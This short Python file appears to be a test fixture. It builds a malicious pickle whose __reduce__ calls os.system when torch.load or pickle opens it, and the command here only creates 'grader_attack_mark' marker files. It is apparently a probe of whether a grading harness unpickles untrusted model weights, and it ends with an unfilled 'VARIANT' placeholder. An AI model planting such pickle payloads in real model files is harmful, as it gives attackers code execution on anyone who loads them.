"""Waits for somebody to unpickle it."""

import io
import os
import pickle

import torch


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/grader_attack_mark /dev/shm/grader_attack_mark grader_attack_mark",)


def saved():
    file = io.BytesIO()
    torch.save({"w": Bomb()}, file)
    return file.getvalue()


w = VARIANT
